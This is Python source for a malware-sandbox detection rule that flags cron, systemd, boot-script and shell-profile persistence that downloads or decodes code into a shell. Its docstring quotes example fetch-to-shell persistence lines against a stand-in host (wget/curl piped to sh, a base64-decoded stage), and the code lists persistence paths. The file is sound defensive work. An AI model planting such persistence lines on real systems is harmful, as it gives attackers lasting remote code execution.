"""Persistence that fetches or decodes code: files the run wrote where the system runs
commands later (cron, systemd units, boot scripts, shell profiles), read back and checked for
a download or a decoded stage fed to a shell.

    /var/spool/cron/crontabs/root    * * * * * wget -q -O- http://x.test/m.sh | sh
    /etc/systemd/system/x.service    ExecStart=/bin/sh -c 'curl -s http://x.test/r | sh'
    /root/.bashrc                    echo d2dldCAtcU8tIGh0dHA6Ly94LnRlc3QvcCB8IHNo | base64 -d | sh

Writing such a job is reported elsewhere (file-cron-write, file-init-persistence); this says
what the job does, from the file as the run left it (RunView.file_text). A script the job
names that the run also wrote is read too. A log-rotation job that fetches nothing is not a
finding. The same fetch-to-shell persisted in two places or more (a cron.d entry and a
periodic script, a unit and a profile) is re-infection made to survive the removal of one:
critical, enough on its own. So is one job that fetches code from the network when it runs
(a download into a shell or an interpreter's eval): whatever it runs later is chosen
elsewhere; a decoded stage alone in one place stays high. A job that runs a copy a program
of the run made of itself is `persisted-self-copy` (persisted_copies.py).
"""

from __future__ import annotations

import fnmatch
import re

from detonate.detect.correlations.metadata import finding
from detonate.detect.correlations.persisted_copies import self_copies
from detonate.detect.correlations.run_index import RunIndex, index_of
from detonate.detect.correlations.shell_text import DECODED_SHOWN, TextHit, analyse
from detonate.detect.interface import RunView
from detonate.model.events import FileOpenedForWrite
from detonate.model.findings import Evidence, Finding, Severity
from detonate.model.runtime import ChangeKind

NAME = "persisted-commands"
RUNS_FETCHED = frozenset({"download-pipe-shell", "decode-to-shell"})
# Where the system runs commands later, and the rule reporting each place.
LOCATIONS: tuple[tuple[str, tuple[str, ...]], ...] = (
    (
        "cron-job-download-shell",
        (
            "/etc/crontab",
            "/etc/anacrontab",
            "/etc/cron.*/*",
            "/etc/crontabs/*",
            "/etc/periodic/*",
            "/var/spool/cron/*",
        ),
    ),
    (
        "service-unit-download-shell",
        (
            "/etc/systemd/system/*",
            "/etc/systemd/user/*",
            "/lib/systemd/system/*",
            "/usr/lib/systemd/system/*",
            "/run/systemd/system/*",
            "*/.config/systemd/user/*",
        ),
    ),
    (
        "boot-script-download-shell",
        (
            "/etc/rc.local",
            "/etc/rc.d/*",
            "/etc/rc[0-6S].d/*",
            "/etc/init.d/*",
            "/etc/local.d/*",
            "/etc/update-motd.d/*",
        ),
    ),
    (
        "shell-profile-download-shell",
        (
            "/etc/profile",
            "/etc/profile.d/*",
            "/etc/bash.bashrc",
            "/etc/bashrc",
            "/etc/zshrc",
            "/etc/zsh/*",
            "*/.bashrc",
            "*/.bash_profile",
            "*/.bash_login",
            "*/.bash_logout",
            "*/.profile",
            "*/.zshrc",
            "*/.zprofile",
        ),
    ),
)
# An absolute path a job runs: "* * * * * /tmp/.x/update.sh", "ExecStart=/opt/x/run"
PATH_WORD = re.compile(r"(?<![\w.-])(/[\w./-]+)")
MAX_EVIDENCE = 10
REDUNDANT = 2  # places holding a fetch-to-shell that make the persistence redundant


class PersistedCommands:
    name: str = NAME

    def detect(self, run: RunView) -> tuple[Finding, ...]:
        index = index_of(run)
        evidence: dict[str, list[Evidence]] = {}
        fetches: set[str] = set()  # rules whose job fetches code from the network
        for change in run.files:
            rule_id = location_rule(change.path)
            if not rule_id or change.change is ChangeKind.DELETED:
                continue
            text = run.file_text(change.path)
            if not text:
                continue
            for hit, via in _fetching(run, index, text):
                if hit.rule_id == "download-pipe-shell":
                    fetches.add(rule_id)
                found = evidence.setdefault(rule_id, [])
                item = _evidence(index, change.path, hit, via)
                if item not in found and len(found) < MAX_EVIDENCE:
                    found.append(item)
        places = {e.path for items in evidence.values() for e in items}
        redundant = len(places) >= REDUNDANT
        copies = [
            copy
            for change in run.files
            if location_rule(change.path) and change.change is not ChangeKind.DELETED
            for copy in self_copies(index, change.path, run.file_text(change.path) or "")
        ]
        results = [
            finding(
                rule_id,
                NAME,
                items,
                severity=Severity.CRITICAL if redundant or rule_id in fetches else None,
                why=_redundant(places) or _fetches(rule_id in fetches),
            )
            for rule_id, items in sorted(evidence.items())
        ]
        if copies:
            hidden = any(h for _, h in copies)
            results.insert(
                0,
                finding(
                    "persisted-self-copy",
                    NAME,
                    [e for e, _ in copies][:MAX_EVIDENCE],
                    severity=Severity.CRITICAL if hidden else None,
                ),
            )
        return tuple(results)


def _redundant(places: set[str]) -> str:
    if len(places) < REDUNDANT:
        return ""
    return f"Persisted in {len(places)} places: {', '.join(sorted(places))}."


def _fetches(fetching: bool) -> str:
    if not fetching:
        return ""
    return "The job fetches code from the network when it runs: the payload is the attacker's."


def location_rule(path: str) -> str:
    """The rule for a persistence location, "" when `path` is none."""
    for rule_id, patterns in LOCATIONS:
        if any(fnmatch.fnmatchcase(path, pattern) for pattern in patterns):
            return rule_id
    return ""


def _fetching(run: RunView, index: RunIndex, text: str) -> list[tuple[TextHit, str]]:
    """Download- or decode-to-shell hits of the file, then of run-written scripts it names."""
    hits = [(hit, "") for hit in analyse(text) if hit.rule_id in RUNS_FETCHED]
    for path in dict.fromkeys(PATH_WORD.findall(text)):
        change = index.files.get(path)
        if change is None or change.change is ChangeKind.DELETED or location_rule(path):
            continue
        script = run.file_text(path)
        if script:
            hits += [(hit, path) for hit in analyse(script) if hit.rule_id in RUNS_FETCHED]
    return hits


def _evidence(index: RunIndex, path: str, hit: TextHit, via: str) -> Evidence:
    kind = (
        "download run by a shell"
        if hit.rule_id == "download-pipe-shell"
        else ("decoded stage run by a shell")
    )
    if via:
        kind += f", in {via} which it runs"
    if hit.stage:
        kind += f" (inside decoded stage {hit.stage})"
    writes = [
        e for e in index.writes.get(path, ()) if isinstance(e, FileOpenedForWrite) and e.succeeded
    ]
    change = index.files.get(path)
    excerpt = hit.excerpt
    if hit.decoded:
        excerpt += "\ndecoded: " + "\ndecoded: ".join(d[:DECODED_SHOWN] for d in hit.decoded)
    return Evidence(
        description=f"{path}: {kind}",
        path=path,
        sha256=change.sha256 if change else "",
        excerpt=excerpt,
        event_ids=tuple(e.seq for e in writes[:3]),
        process=index.chain(writes[0].pid, writes[0].seq) if writes else (),
    )
